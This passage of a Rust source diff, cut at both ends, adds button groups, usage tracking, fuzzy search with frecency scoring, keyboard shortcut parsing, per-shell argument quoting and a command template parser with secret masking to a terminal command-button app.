+                    Vec::new()
+                } else {
+                    self.value_history(&button.id, &variable.name).to_vec()
+                };
+                VariablePrompt {
+                    variable,
+                    value: suggestions.first().cloned(),
+                    suggestions,
+                }
+            })
+            .collect())
+    }
 
-        self.active_tabs.remove(tab_id);
+    /// Collects the usage of every button that has been used
+    pub fn usage(&self) -> UsageState {
+        let buttons = self
+            .buttons
+            .iter()
+            .filter_map(|button| {
+                let usage = ButtonUsage {
+                    use_count: button.use_count,
+                    last_used_ms: button.last_used_ms,
+                    values: self
+                        .value_history
+                        .get(&button.id)
+                        .cloned()
+                        .unwrap_or_default(),
+                };
+                (usage != ButtonUsage::default()).then(|| (button.id.clone(), usage))
+            })
+            .collect();
+        UsageState { buttons }
+    }
 
-        // If we closed the active tab, switch to another one
-        if self.active_tab_id.as_deref() == Some(tab_id) {
-            self.active_tab_id = self.active_tabs.iter().next().cloned();
+    /// Takes the usage of each button from `usage`. Buttons it doesn't list
+    /// keep what they have, e.g. counts from a config file written before
+    /// usage was stored separately.
+    pub fn restore_usage(&mut self, usage: &UsageState) {
+        for button in &mut self.buttons {
+            let Some(used) = usage.buttons.get(&button.id) else {
+                continue;
+            };
+            button.use_count = used.use_count;
+            button.last_used_ms = used.last_used_ms;
+            if used.values.is_empty() {
+                self.value_history.remove(&button.id);
+            } else {
+                self.value_history
+                    .insert(button.id.clone(), used.values.clone());
+            }
         }
+        self.prune_all_value_history();
+    }
 
-        Ok(())
+    /// A copy without usage statistics and remembered values, for the
+    /// config file
+    pub fn without_usage(&self) -> ButtonManager {
+        ButtonManager {
+            buttons: self.buttons.iter().map(CommandButton::definition).collect(),
+            value_history: BTreeMap::new(),
+            ..self.clone()
+        }
     }
 
-    /// Switches to a tab by ID
-    pub fn switch_to_tab(&mut self, tab_id: &str) -> Result<(), AppError> {
-        if !self.active_tabs.contains(tab_id) {
-            return Err(AppError::TabNotFound(tab_id.to_owned()));
+    /// Drops remembered values of buttons that are gone, and of variables
+    /// that are gone or secret
+    fn prune_all_value_history(&mut self) {
+        let ids: Vec<String> = self.value_history.keys().cloned().collect();
+        for id in ids {
+            match self.get_button(&id).map(CommandButton::variables) {
+                Some(Ok(variables)) => self.prune_value_history(&id, &variables),
+                _ => {
+                    self.value_history.remove(&id);
+                }
+            }
         }
-        self.active_tab_id = Some(tab_id.to_string());
-        Ok(())
     }
 
-    /// Gets the currently active tab ID
-    pub fn active_tab(&self) -> Option<&str> {
-        self.active_tab_id.as_deref()
+    /// Drops remembered values for variables that are gone or now secret
+    fn prune_value_history(&mut self, id: &str, variables: &[TemplateVariable]) {
+        if let Some(history) = self.value_history.get_mut(id) {
+            history.retain(|name, _| variables.iter().any(|v| &v.name == name && !v.secret));
+            if history.is_empty() {
+                self.value_history.remove(id);
+            }
+        }
     }
 
-    /// Checks if a tab exists
-    pub fn has_tab(&self, tab_id: &str) -> bool {
+    fn position(&self, id: &str) -> Result<usize, AppError> {
+        self.buttons
+            .iter()
+            .position(|b| b.id == id)
+            .ok_or_else(|| AppError::ButtonNotFound(id.to_owned()))
+    }
+
+    fn require_buttons(&self, ids: &[&str]) -> Result<(), AppError> {
+        match ids.iter().find(|id| self.get_button(id).is_none()) {
+            Some(missing) => Err(AppError::ButtonNotFound((*missing).to_owned())),
+            None => Ok(()),
+        }
+    }
+
+    /// Adds a new group under `parent_id` and returns its ID
+    pub fn add_group(&mut self, name: String, parent_id: Option<&str>) -> Result<String, AppError> {
+        if let Some(parent_id) = parent_id {
+            self.require_group(parent_id)?;
+        }
+        let group = ButtonGroup::new(name, parent_id.map(str::to_owned));
+        let id = group.id.clone();
+        self.groups.push(group);
+        Ok(id)
+    }
+
+    /// Renames a group and changes its icon
+    pub fn update_group(
+        &mut self,
+        id: &str,
+        name: String,
+        icon: Option<String>,
+    ) -> Result<(), AppError> {
+        let group = self.group_mut(id)?;
+        group.name = name;
+        group.icon = icon;
+        Ok(())
+    }
+
+    /// Collapses or expands a group
+    pub fn set_group_collapsed(&mut self, id: &str, collapsed: bool) -> Result<(), AppError> {
+        self.group_mut(id)?.collapsed = collapsed;
+        Ok(())
+    }
+
+    /// Deletes a group. Its buttons and child groups move up to its parent.
+    pub fn delete_group(&mut self, id: &str) -> Result<(), AppError> {
+        let index = self
+            .groups
+            .iter()
+            .position(|g| g.id == id)
+            .ok_or_else(|| AppError::GroupNotFound(id.to_owned()))?;
+        let removed = self.groups.remove(index);
+
+        for group in self.groups.iter_mut() {
+            if group.parent_id.as_deref() == Some(id) {
+                group.parent_id = removed.parent_id.clone();
+            }
+        }
+        for button in self.buttons.iter_mut() {
+            if button.group_id.as_deref() == Some(id) {
+                button.group_id = removed.parent_id.clone();
+            }
+        }
+        Ok(())
+    }
+
+    /// Moves a button into a group, or to the top level when `group_id` is None
+    pub fn move_button_to_group(
+        &mut self,
+        button_id: &str,
+        group_id: Option<&str>,
+    ) -> Result<(), AppError> {
+        if let Some(group_id) = group_id {
+            self.require_group(group_id)?;
+        }
+        let button = self
+            .buttons
+            .iter_mut()
+            .find(|b| b.id == button_id)
+            .ok_or_else(|| AppError::ButtonNotFound(button_id.to_owned()))?;
+        button.group_id = group_id.map(str::to_owned);
+        Ok(())
+    }
+
+    /// Moves a group under a new parent at `index` among its new siblings.
+    /// An index past the end places the group last.
+    pub fn move_group(
+        &mut self,
+        id: &str,
+        parent_id: Option<&str>,
+        index: usize,
+    ) -> Result<(), AppError> {
+        self.require_group(id)?;
+        if let Some(parent_id) = parent_id {
+            self.require_group(parent_id)?;
+            if self.is_descendant_or_self(parent_id, id) {
+                return Err(AppError::InvalidGroupMove(format!(
+                    "group {id} cannot be moved into itself or one of its subgroups"
+                )));
+            }
+        }
+
+        let position = self.groups.iter().position(|g| g.id == id).unwrap_or(0);
+        let mut group = self.groups.remove(position);
+        group.parent_id = parent_id.map(str::to_owned);
+
+        let siblings: Vec<usize> = self
+            .groups
+            .iter()
+            .enumerate()
+            .filter(|(_, g)| g.parent_id.as_deref() == parent_id)
+            .map(|(i, _)| i)
+            .collect();
+        let insert_at = match siblings.get(index) {
+            Some(&i) => i,
+            None => siblings.last().map(|&i| i + 1).unwrap_or(self.groups.len()),
+        };
+        self.groups.insert(insert_at, group);
+        Ok(())
+    }
+
+    /// Gets a group by ID
+    pub fn get_group(&self, id: &str) -> Option<&ButtonGroup> {
+        self.groups.iter().find(|g| g.id == id)
+    }
+
+    /// Gets all groups
+    pub fn get_groups(&self) -> &[ButtonGroup] {
+        &self.groups
+    }
+
+    /// Gets the groups directly under `parent_id`, in display order
+    pub fn child_groups(&self, parent_id: Option<&str>) -> Vec<&ButtonGroup> {
+        self.groups
+            .iter()
+            .filter(|g| g.parent_id.as_deref() == parent_id)
+            .collect()
+    }
+
+    /// Gets the buttons directly in a group, in display order. Buttons that
+    /// point at a group that no longer exists are shown at the top level.
+    pub fn buttons_in_group(&self, group_id: Option<&str>) -> Vec<&CommandButton> {
+        self.buttons
+            .iter()
+            .filter(|b| {
+                let effective = b
+                    .group_id
+                    .as_deref()
+                    .filter(|id| self.get_group(id).is_some());
+                effective == group_id
+            })
+            .collect()
+    }
+
+    fn require_group(&self, id: &str) -> Result<(), AppError> {
+        self.get_group(id)
+            .map(|_| ())
+            .ok_or_else(|| AppError::GroupNotFound(id.to_owned()))
+    }
+
+    fn group_mut(&mut self, id: &str) -> Result<&mut ButtonGroup, AppError> {
+        self.groups
+            .iter_mut()
+            .find(|g| g.id == id)
+            .ok_or_else(|| AppError::GroupNotFound(id.to_owned()))
+    }
+
+    /// Returns true if `id` is `ancestor` or nested anywhere below it
+    fn is_descendant_or_self(&self, id: &str, ancestor: &str) -> bool {
+        let mut current = Some(id);
+        let mut depth = 0;
+        while let Some(group_id) = current {
+            if group_id == ancestor {
+                return true;
+            }
+            // Guard against cycles in hand-edited configs
+            depth += 1;
+            if depth > self.groups.len() {
+                return false;
+            }
+            current = self
+                .get_group(group_id)
+                .and_then(|g| g.parent_id.as_deref());
+        }
+        false
+    }
+}
+
+impl Default for ButtonManager {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+/// Part of a button the palette matched a query against
+#[derive(Debug, Clone, Copy, Serialize, PartialEq, Eq, PartialOrd, Ord)]
+#[serde(rename_all = "snake_case")]
+pub enum MatchField {
+    Name,
+    Command,
+    Group,
+    Tag,
+}
+
+impl MatchField {
+    /// How much a match in this field counts, in percent
+    fn weight(self) -> i64 {
+        match self {
+            MatchField::Name => 100,
+            MatchField::Tag => 90,
+            MatchField::Group => 70,
+            MatchField::Command => 60,
+        }
+    }
+}
+
+/// A matched range of characters, `start..end`, in one field of a button
+#[derive(Debug, Clone, Serialize, PartialEq, Eq, PartialOrd, Ord)]
+pub struct Highlight {
+    pub field: MatchField,
+    /// Index into the button's tags, for tag matches
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub tag: Option<usize>,
+    pub start: usize,
+    pub end: usize,
+}
+
+/// A button found by a palette search
+#[derive(Debug, Clone, Serialize, PartialEq)]
+pub struct PaletteMatch {
+    pub button_id: String,
+    pub score: f64,
+    pub highlights: Vec<Highlight>,
+}
+
+/// Sorts highlights and joins ranges of the same field that touch or overlap
+fn merge_highlights(mut highlights: Vec<Highlight>) -> Vec<Highlight> {
+    highlights.sort();
+    let mut merged: Vec<Highlight> = Vec::with_capacity(highlights.len());
+    for highlight in highlights {
+        match merged.last_mut() {
+            Some(last)
+                if last.field == highlight.field
+                    && last.tag == highlight.tag
+                    && highlight.start <= last.end =>
+            {
+                last.end = last.end.max(highlight.end);
+            }
+            _ => merged.push(highlight),
+        }
+    }
+    merged
+}
+
+/// A fuzzy match of a pattern within a piece of text
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct FuzzyMatch {
+    pub score: i64,
+    /// Matched character ranges, `start..end`, in character offsets
+    pub ranges: Vec<(usize, usize)>,
+}
+
+const FUZZY_MATCH_SCORE: i64 = 16;
+const FUZZY_CONSECUTIVE_BONUS: i64 = 24;
+const FUZZY_WORD_START_BONUS: i64 = 24;
+const FUZZY_LEADING_GAP_LIMIT: i64 = 15;
+
+/// Matches the characters of `pattern` in order, case-insensitively,
+/// anywhere in `text`, picking the best scoring alignment. Runs of
+/// consecutive characters and matches at the start of words score higher;
+/// gaps score lower. Returns None if some character of the pattern is missing.
+pub fn fuzzy_match(pattern: &str, text: &str) -> Option<FuzzyMatch> {
+    const UNMATCHED: i64 = i64::MIN / 2;
+
+    let pattern: Vec<char> = pattern.chars().map(fold_case).collect();
+    let original: Vec<char> = text.chars().collect();
+    let folded: Vec<char> = original.iter().copied().map(fold_case).collect();
+    let n = folded.len();
+    if pattern.is_empty() || pattern.len() > n {
+        return None;
+    }
+    let bonus: Vec<i64> = (0..n)
+        .map(|j| {
+            let word_start = match j.checked_sub(1).map(|p| original[p]) {
+                None => true,
+                Some(prev) => {
+                    !prev.is_alphanumeric() || (prev.is_lowercase() && original[j].is_uppercase())
+                }
+            };
+            FUZZY_MATCH_SCORE
+                + if word_start {
+                    FUZZY_WORD_START_BONUS
+                } else {
+                    0
+                }
+        })
+        .collect();
+
+    // scores[j]: best score for the pattern so far with its last character at j
+    let mut scores: Vec<i64> = (0..n)
+        .map(|j| match folded[j] == pattern[0] {
+            true => bonus[j] - (j as i64).min(FUZZY_LEADING_GAP_LIMIT),
+            false => UNMATCHED,
+        })
+        .collect();
+    // parents[i][j]: where pattern character i - 1 was matched for the best score at j
+    let mut parents = vec![vec![0; n]; pattern.len()];
+    for (i, &c) in pattern.iter().enumerate().skip(1) {
+        let mut next = vec![UNMATCHED; n];
+        // Best of scores[k] + k over k < j - 1, so the gap penalty j - k - 1 is cheap to apply
+        let mut best_before_gap = (UNMATCHED, 0);
+        for j in 1..n {
+            if j >= 2 {
+                let k = j - 2;
+                if scores[k] > UNMATCHED && scores[k] + k as i64 > best_before_gap.0 {
+                    best_before_gap = (scores[k] + k as i64, k);
+                }
+            }
+            if folded[j] != c {
+                continue;
+            }
+            let mut best = (UNMATCHED, 0);
+            if scores[j - 1] > UNMATCHED {
+                best = (scores[j - 1] + FUZZY_CONSECUTIVE_BONUS, j - 1);
+            }
+            if best_before_gap.0 > UNMATCHED {
+                let gapped = best_before_gap.0 - (j as i64 - 1);
+                if gapped > best.0 {
+                    best = (gapped, best_before_gap.1);
+                }
+            }
+            if best.0 > UNMATCHED {
+                next[j] = best.0 + bonus[j];
+                parents[i][j] = best.1;
+            }
+        }
+        scores = next;
+    }
+
+    let mut end = 0;
+    for j in 1..n {
+        if scores[j] > scores[end] {
+            end = j;
+        }
+    }
+    let score = scores[end];
+    if score <= UNMATCHED {
+        return None;
+    }
+
+    let mut positions = vec![end];
+    for i in (1..pattern.len()).rev() {
+        positions.push(parents[i][*positions.last().unwrap()]);
+    }
+    positions.reverse();
+    let mut ranges: Vec<(usize, usize)> = Vec::new();
+    for position in positions {
+        match ranges.last_mut() {
+            Some(last) if last.1 == position => last.1 += 1,
+            _ => ranges.push((position, position + 1)),
+        }
+    }
+    Some(FuzzyMatch { score, ranges })
+}
+
+fn fold_case(c: char) -> char {
+    c.to_lowercase().next().unwrap_or(c)
+}
+
+/// Days for the recency part of frecency to halve
+const FRECENCY_HALF_LIFE_DAYS: f64 = 7.0;
+
+/// How strongly frecency lifts a match score
+const FRECENCY_WEIGHT: f64 = 0.25;
+
+/// Multiplier for a palette score from how often and how recently a button
+/// was used. Never-used buttons get 1.0; use counts without a timestamp
+/// still count a little.
+pub fn frecency(use_count: u32, last_used_ms: Option<u64>, now_ms: u64) -> f64 {
+    const DAY_MS: f64 = 24.0 * 60.0 * 60.0 * 1000.0;
+    let recency = last_used_ms.map_or(0.0, |used| {
+        let age_days = now_ms.saturating_sub(used) as f64 / DAY_MS;
+        0.5f64.powf(age_days / FRECENCY_HALF_LIFE_DAYS)
+    });
+    1.0 + FRECENCY_WEIGHT * (use_count as f64).ln_1p() * (0.25 + recency)
+}
+
+/// A keyboard shortcut in normalized form. `CmdOrCtrl` resolves to Cmd
+/// (`Meta`) on macOS and `Ctrl` elsewhere, so shortcuts that only clash on
+/// one platform are caught there.
+#[derive(Debug, Clone, PartialEq, Eq, Hash)]
+pub struct Accelerator {
+    pub ctrl: bool,
+    pub alt: bool,
+    pub shift: bool,
+    pub meta: bool,
+    pub key: String,
+}
+
+impl Accelerator {
+    /// Parses text like `CmdOrCtrl+Shift+B`. Modifier and key names are case
+    /// insensitive. Keys other than F1-F24 need Ctrl, Alt or Cmd, since
+    /// Shift alone would swallow ordinary typing in the terminal.
+    pub fn parse(text: &str) -> Result<Self, AppError> {
+        Self::parse_for(text, cfg!(target_os = "macos"))
+    }
+
+    fn parse_for(text: &str, mac: bool) -> Result<Self, AppError> {
+        let invalid = |message: &str| AppError::InvalidAccelerator {
+            accelerator: text.to_owned(),
+            message: message.to_owned(),
+        };
+        let mut accelerator = Accelerator {
+            ctrl: false,
+            alt: false,
+            shift: false,
+            meta: false,
+            key: String::new(),
+        };
+        let parts: Vec<&str> = text.split('+').map(str::trim).collect();
+        let (key, modifiers) = parts.split_last().ok_or_else(|| invalid("empty"))?;
+        for modifier in modifiers {
+            let flag = match modifier.to_ascii_lowercase().as_str() {
+                "ctrl" | "control" => &mut accelerator.ctrl,
+                "alt" | "option" => &mut accelerator.alt,
+                "shift" => &mut accelerator.shift,
+                "cmd" | "command" | "super" | "meta" => &mut accelerator.meta,
+                "cmdorctrl" | "commandorcontrol" if mac => &mut accelerator.meta,
+                "cmdorctrl" | "commandorcontrol" => &mut accelerator.ctrl,
+                "" => return Err(invalid("empty modifier")),
+                _ => return Err(invalid(&format!("unknown modifier `{modifier}`"))),
+            };
+            if *flag {
+                return Err(invalid(&format!("repeated modifier `{modifier}`")));
+            }
+            *flag = true;
+        }
+        accelerator.key =
+            normalize_key(key).ok_or_else(|| invalid(&format!("unknown key `{key}`")))?;
+        let function_key = accelerator.key.len() > 1 && accelerator.key.starts_with('F');
+        let has_modifier = accelerator.ctrl || accelerator.alt || accelerator.meta;
+        if !has_modifier && !function_key {
+            return Err(invalid("needs Ctrl, Alt or Cmd"));
+        }
+        Ok(accelerator)
+    }
+}
+
+impl std::fmt::Display for Accelerator {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        let modifiers = [
+            (self.ctrl, "Ctrl+"),
+            (self.alt, "Alt+"),
+            (self.shift, "Shift+"),
+            (self.meta, "Meta+"),
+        ];
+        for (_, name) in modifiers.iter().filter(|(set, _)| *set) {
+            f.write_str(name)?;
+        }
+        f.write_str(&self.key)
+    }
+}
+
+/// Returns the canonical name of a key, or None if it isn't supported
+fn normalize_key(key: &str) -> Option<String> {
+    let mut chars = key.chars();
+    if let (Some(c), None) = (chars.next(), chars.next()) {
+        return (c.is_ascii_graphic() && c != '+').then(|| c.to_ascii_uppercase().to_string());
+    }
+    let lower = key.to_ascii_lowercase();
+    if let Some(n) = lower.strip_prefix('f').and_then(|n| n.parse::<u8>().ok()) {
+        return (1..=24).contains(&n).then(|| format!("F{n}"));
+    }
+    let name = match lower.as_str() {
+        "plus" => "Plus",
+        "space" => "Space",
+        "tab" => "Tab",
+        "enter" | "return" => "Enter",
+        "escape" | "esc" => "Escape",
+        "backspace" => "Backspace",
+        "delete" | "del" => "Delete",
+        "insert" => "Insert",
+        "home" => "Home",
+        "end" => "End",
+        "pageup" => "PageUp",
+        "pagedown" => "PageDown",
+        "up" | "arrowup" => "Up",
+        "down" | "arrowdown" => "Down",
+        "left" | "arrowleft" => "Left",
+        "right" | "arrowright" => "Right",
+        _ => return None,
+    };
+    Some(name.to_owned())
+}
+
+/// What a keyboard shortcut does
+#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
+#[serde(tag = "action", rename_all = "snake_case")]
+pub enum KeyAction {
+    NewTab,
+    CloseTab,
+    CommandPalette,
+    RunButton { button_id: String },
+}
+
+impl std::fmt::Display for KeyAction {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            KeyAction::NewTab => f.write_str("New tab"),
+            KeyAction::CloseTab => f.write_str("Close tab"),
+            KeyAction::CommandPalette => f.write_str("Command palette"),
+            KeyAction::RunButton { button_id } => write!(f, "button {button_id}"),
+        }
+    }
+}
+
+/// Shortcuts the app always has
+pub const BUILTIN_KEYBINDINGS: &[(&str, KeyAction)] = &[
+    ("CmdOrCtrl+T", KeyAction::NewTab),
+    ("CmdOrCtrl+W", KeyAction::CloseTab),
+    ("CmdOrCtrl+K", KeyAction::CommandPalette),
+];
+
+/// Registry of keyboard shortcuts, keyed by normalized accelerator
+#[derive(Debug, Clone, Default, Serialize, PartialEq)]
+#[serde(transparent)]
+pub struct Keybindings {
+    bindings: BTreeMap<String, KeyAction>,
+}
+
+impl Keybindings {
+    /// Creates a registry holding only the built-in shortcuts
+    pub fn builtin() -> Self {
+        let mut keybindings = Self::default();
+        for (accelerator, action) in BUILTIN_KEYBINDINGS {
+            keybindings
+                .bind(accelerator, action.clone())
+                .expect("built-in shortcuts are valid and distinct");
+        }
+        keybindings
+    }
+
+    /// Binds a shortcut, failing if it is invalid or already taken
+    pub fn bind(&mut self, accelerator: &str, action: KeyAction) -> Result<(), AppError> {
+        let accelerator = Accelerator::parse(accelerator)?.to_string();
+        if let Some(existing) = self.bindings.get(&accelerator) {
+            return Err(AppError::KeybindingConflict {
+                accelerator,
+                existing: existing.clone(),
+                requested: action,
+            });
+        }
+        self.bindings.insert(accelerator, action);
+        Ok(())
+    }
+
+    /// Binds a button's shortcut, if it has one
+    fn bind_button(&mut self, button: &CommandButton) -> Result<(), AppError> {
+        match &button.accelerator {
+            Some(accelerator) => self.bind(
+                accelerator,
+                KeyAction::RunButton {
+                    button_id: button.id.clone(),
+                },
+            ),
+            None => Ok(()),
+        }
+    }
+
+    /// Looks up what a shortcut does
+    pub fn get(&self, accelerator: &str) -> Option<&KeyAction> {
+        let accelerator = Accelerator::parse(accelerator).ok()?.to_string();
+        self.bindings.get(&accelerator)
+    }
+
+    /// Gets every shortcut and its action
+    pub fn bindings(&self) -> &BTreeMap<String, KeyAction> {
+        &self.bindings
+    }
+}
+
+/// Shell that a rendered command is typed into
+#[derive(Debug, Clone, Copy, Serialize, Deserialize, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+pub enum Shell {
+    /// sh, bash, zsh and other POSIX-compatible shells
+    Posix,
+    Fish,
+    PowerShell,
+    Cmd,
+}
+
+impl Shell {
+    /// The shell that new tabs run on this platform
+    pub fn platform_default() -> Self {
+        if cfg!(windows) {
+            Shell::Cmd
+        } else {
+            Shell::Posix
+        }
+    }
+
+    /// Recognises a shell from its program name or path, e.g. `/usr/bin/fish`
+    /// or `pwsh.exe`
+    pub fn from_program(program: &str) -> Option<Self> {
+        let name = program.rsplit(['/', '\\']).next().unwrap_or(program);
+        let name = name.to_ascii_lowercase();
+        match name.strip_suffix(".exe").unwrap_or(&name) {
+            "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" => Some(Shell::Posix),
+            "fish" => Some(Shell::Fish),
+            "pwsh" | "powershell" => Some(Shell::PowerShell),
+            "cmd" => Some(Shell::Cmd),
+            _ => None,
+        }
+    }
+
+    /// The flag that makes the shell run a command string and exit
+    pub fn command_flag(self) -> &'static str {
+        match self {
+            Shell::Posix | Shell::Fish => "-c",
+            Shell::PowerShell => "-Command",
+            Shell::Cmd => "/C",
+        }
+    }
+
+    /// Arguments that make `program` run a command string given after them:
+    /// the shell's flag, or for a launcher such as `sudo` that isn't a shell
+    /// itself, the platform's shell and its flag
+    pub fn command_args(program: &str) -> Vec<&'static str> {
+        match Shell::from_program(program) {
+            Some(shell) => vec![shell.command_flag()],
+            None if cfg!(windows) => vec!["cmd.exe", "/C"],
+            None => vec!["sh", "-c"],
+        }
+    }
+
+    /// Prefixes `command` so that, typed into an already running shell, it
+    /// runs in `cwd` with `env` set. A leading `~` in `cwd` is kept unquoted,
+    /// or replaced with `%USERPROFILE%` for cmd.exe, so the shell expands it.
+    pub fn prefix(
+        self,
+        cwd: Option<&str>,
+        env: &BTreeMap<String, String>,
+        command: &str,
+    ) -> Result<String, AppError> {
+        if let Some(name) = env.keys().find(|name| !is_env_name(name)) {
+            return Err(AppError::InvalidEnvName(name.clone()));
+        }
+        let mut parts = Vec::new();
+        if let Some(cwd) = cwd {
+            parts.push(self.change_directory(cwd)?);
+        }
+        let separator = match self {
+            // Exported in a subshell or block, so the variables reach every
+            // command of a pipeline or `&&` chain but don't stay set in the tab
+            Shell::Posix => {
+                let mut assignments = Vec::new();
+                for (name, value) in env {
+                    assignments.push(format!("{name}={}", self.quote(value)?));
+                }
+                if assignments.is_empty() {
+                    parts.push(command.to_string());
+                } else {
+                    parts.push(format!("(export {}; {command})", assignments.join(" ")));
+                }
+                " && "
+            }
+            Shell::Fish => {
+                let mut block = String::new();
+                for (name, value) in env {
+                    block.push_str(&format!("set -lx {name} {}; ", self.quote(value)?));
+                }
+                if block.is_empty() {
+                    parts.push(command.to_string());
+                } else {
+                    parts.push(format!("begin; {block}{command}; end"));
+                }
+                " && "
+            }
+            Shell::PowerShell => {
+                for (name, value) in env {
+                    // A bare value would run as a command
+                    let quoted = self.quote(value)?;
+                    if quoted.starts_with('\'') {
+                        parts.push(format!("$env:{name} = {quoted}"));
+                    } else {
+                        parts.push(format!("$env:{name} = '{quoted}'"));
+                    }
+                }
+                parts.push(command.to_string());
+                "; "
+            }
+            Shell::Cmd => {
+                for (name, value) in env {
+                    if value.contains(['"', '%', '!', '\n', '\r', '\0']) {
+                        return Err(AppError::UnsafeValue {
+                            shell: self,
+                            value: value.clone(),
+                        });
+                    }
+                    parts.push(format!("set \"{name}={value}\""));
+                }
+                parts.push(command.to_string());
+                " && "
+            }
+        };
+        Ok(parts.join(separator))
+    }
+
+    fn change_directory(self, cwd: &str) -> Result<String, AppError> {
+        let home_relative = match cwd.strip_prefix('~') {
+            Some(rest) if rest.is_empty() || rest.starts_with('/') => Some(rest),
+            _ => None,
+        };
+        Ok(match (self, home_relative) {
+            (Shell::Posix | Shell::Fish, Some("")) => "cd ~".to_string(),
+            (Shell::Posix | Shell::Fish, Some(rest)) => format!("cd ~{}", self.quote(rest)?),
+            (Shell::Posix | Shell::Fish, None) => format!("cd {}", self.quote(cwd)?),
+            (Shell::PowerShell, Some("")) => {
+                "Set-Location -LiteralPath $HOME -ErrorAction Stop".to_string()
+            }
+            (Shell::PowerShell, Some(rest)) => format!(
+                "Set-Location -LiteralPath (Join-Path $HOME {}) -ErrorAction Stop",
+                self.quote(rest)?
+            ),
+            (Shell::PowerShell, None) => format!(
+                "Set-Location -LiteralPath {} -ErrorAction Stop",
+                self.quote(cwd)?
+            ),
+            (Shell::Cmd, Some(rest)) => {
+                // Checked like any other value, but quoted together with the variable
+                self.quote(rest)?;
+                format!("cd /d \"%USERPROFILE%{}\"", rest.replace('/', "\\"))
+            }
+            (Shell::Cmd, None) => format!("cd /d {}", self.quote(cwd)?),
+        })
+    }
+
+    /// Quotes a value so the shell passes it through as one literal argument.
+    /// Values made only of characters no shell treats specially are left bare.
+    pub fn quote(self, value: &str) -> Result<String, AppError> {
+        let unsafe_value = || AppError::UnsafeValue {
+            shell: self,
+            value: value.to_string(),
+        };
+        if value.contains('\0') {
+            return Err(unsafe_value());
+        }
+        if !value.is_empty() && value.chars().all(is_shell_safe_char) {
+            return Ok(value.to_string());
+        }
+
+        let quoted = match self {
+            Shell::Posix => format!("'{}'", value.replace('\'', r"'\''")),
+            Shell::Fish => format!("'{}'", value.replace('\\', r"\\").replace('\'', r"\'")),
+            Shell::PowerShell => {
+                let mut quoted = String::from("'");
+                for c in value.chars() {
+                    // PowerShell also treats typographic single quotes as quotes
+                    if matches!(c, '\'' | '\u{2018}' | '\u{2019}' | '\u{201A}' | '\u{201B}') {
+                        quoted.push(c);
+                    }
+                    quoted.push(c);
+                }
+                quoted.push('\'');
+                quoted
+            }
+            Shell::Cmd => {
+                // cmd.exe has no escape inside double quotes, and expands
+                // %VAR% and !VAR! even there
+                if value.contains(['"', '%', '!', '\n', '\r']) {
+                    return Err(unsafe_value());
+                }
+                // Backslashes before the closing quote would escape it
+                let trailing = value.len() - value.trim_end_matches('\\').len();
+                format!("\"{value}{}\"", "\\".repeat(trailing))
+            }
+        };
+        Ok(quoted)
+    }
+}
+
+/// Characters that are literal, unquoted, in every supported shell
+fn is_shell_safe_char(c: char) -> bool {
+    c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | '/' | ':' | '+')
+}
+
+/// Shown in place of the value of a secret variable
+pub const SECRET_MASK: &str = "••••";
+
+/// A variable in a command template, as described to the parameter prompt
+#[derive(Debug, Clone, Serialize, PartialEq)]
+pub struct TemplateVariable {
+    pub name: String,
+    pub default: Option<String>,
+    pub choices: Vec<String>,
+    pub required: bool,
+    /// Inserted without shell quoting, for intentional shell fragments
+    pub raw: bool,
+    /// Command whose output lines are offered as choices
+    pub from: Option<String>,
+    /// Never remembered between runs, for passwords and tokens
+    pub secret: bool,
+}
+
+impl TemplateVariable {
+    fn new(name: String) -> Self {
+        Self {
+            name,
+            default: None,
+            choices: Vec::new(),
+            required: true,
+            raw: false,
+            from: None,
+            secret: false,
+        }
+    }
+}
+
+#[derive(Debug, Clone, PartialEq)]
+enum TemplateSegment {
+    Text(String),
+    /// Index into `Template::variables`
+    Variable(usize),
+}
+
+/// A parsed command template.
+///
+/// Placeholders look like `{{name}}`, with an optional `?` (optional) or `!`
+/// (required) marker, a `:default` value and `|modifier=value` options:
+/// `{{env|choice=dev,staging,prod}}`, `{{tag?:latest}}`, `{{flags?|raw}}`,
+/// `{{container|from="docker ps --format {{.Names}}"}}`, `{{token|secret}}`. Values containing
+/// `|` or `}}` can be double-quoted. A literal `{{` is written as `\{{`;
+/// one that isn't followed by a variable name, as in Docker's
+/// `--format '{{.Names}}'`, is kept as text anyway.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Template {
+    segments: Vec<TemplateSegment>,
+    variables: Vec<TemplateVariable>,
+}
+
+impl Template {
+    /// Parses a template, reporting syntax errors with their character position
+    pub fn parse(source: &str) -> Result<Self, AppError> {
+        TemplateParser::new(source).parse()
+    }
+
+    /// Gets the variables in order of first appearance
+    pub fn variables(&self) -> &[TemplateVariable] {
+        &self.variables
+    }
+
+    /// Fills in the placeholders. Empty or missing values fall back to the
+    /// default; required variables without either are an error.
+    pub fn render(&self, values: &HashMap<String, String>) -> Result<String, AppError> {
+        self.render_with(values, None, None)
+    }
+
+    /// Like `render`, but quotes each value so `shell` sees it as a single
+    /// literal argument. Variables marked `raw` and blank optional variables
+    /// are inserted as-is.
+    pub fn render_for_shell(
+        &self,
+        values: &HashMap<String, String>,
+        shell: Shell,
+    ) -> Result<String, AppError> {
+        self.render_with(values, Some(shell), None)
+    }
+
+    /// Like `render`, but shows the values of secret variables, and of the
+    /// variables named in `secrets`, as `SECRET_MASK`
+    pub fn preview(
+        &self,
+        values: &HashMap<String, String>,
+        secrets: &HashSet<String>,
+    ) -> Result<String, AppError> {
+        self.render_with(values, None, Some(secrets))
+    }
+
+    /// Like `render_for_shell`, with secret values masked as in `preview`
+    pub fn preview_for_shell(
+        &self,
+        values: &HashMap<String, String>,
+        shell: Shell,
+        secrets: &HashSet<String>,
+    ) -> Result<String, AppError> {
+        self.render_with(values, Some(shell), Some(secrets))
+    }
+
+    fn render_with(
+        &self,
+        values: &HashMap<String, String>,
+        shell: Option<Shell>,
+        secrets: Option<&HashSet<String>>,
+    ) -> Result<String, AppError> {
+        let rendered = self
+            .resolve(values)?
+            .into_iter()
+            .zip(&self.variables)
+            .map(|(value, variable)| {
+                let masked = secrets.is_some_and(|s| variable.secret || s.contains(&variable.name));
+                match (value, shell) {
